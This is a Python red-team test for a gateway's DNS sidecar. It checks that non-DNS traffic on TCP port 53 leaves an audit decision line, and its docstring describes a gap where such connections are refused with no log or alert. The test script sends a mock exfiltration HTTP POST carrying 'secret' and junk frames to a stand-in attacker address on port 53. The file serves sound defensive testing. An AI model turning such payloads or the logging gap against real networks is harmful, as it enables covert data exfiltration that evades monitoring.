"""RT-3: connections the sidecar's DNS listener accepts over TCP (every TCP port-53 connection
of the gateway, to any address, is redirected there) end without any decision line when
they carry no parseable question: an exfiltration attempt to the attacker's TCP/53 with
non-DNS bytes is refused silently (no line, no metric, no alert). S9 says every accepted
connection ends with exactly one decision line unless a request on it produced its own.

Run: .venv/bin/pytest redteam/pod/test_dns_tcp_silent.py -s -p no:cacheprovider
"""
import time

from tests.support.netns import child_python

SCRIPT = r'''
import socket, struct, sys, time
payloads = {
    "http": b"POST /exfil HTTP/1.1\r\nHost: 10.77.0.3\r\nContent-Length: 6\r\n\r\nsecret",
    "framed-junk": struct.pack("!H", 20) + b"\xff" * 20,
    "empty": b"",
}
for name, data in payloads.items():
    s = socket.create_connection(("10.77.0.3", 53), timeout=3)   # -> sidecar :15053
    print(name, "local port", s.getsockname()[1], flush=True)
    if data: s.sendall(data)
    s.settimeout(1.5)
    try: print(name, "got", s.recv(100), flush=True)
    except OSError as e: print(name, "recv", repr(e), flush=True)
    s.close()
'''


def test_dns_tcp_connections_leave_no_decision_line(world):
    script = world.work / "dnstcp.py"
    script.write_text(SCRIPT)
    mark = world.mark()
    proc = world.run(child_python(), str(script), timeout=30)
    print(proc.stdout, proc.stderr)
    assert "local port" in proc.stdout, proc.stderr
    time.sleep(12)  # past the listener's idle timeout (10 s)
    lines = world.sidecar.decisions[mark.decisions:]
    print("decision lines:", lines)
    world.assert_attacker_saw_nothing(mark)
    assert len(lines) >= 3, f"3 accepted TCP connections, {len(lines)} decision lines: {lines}"
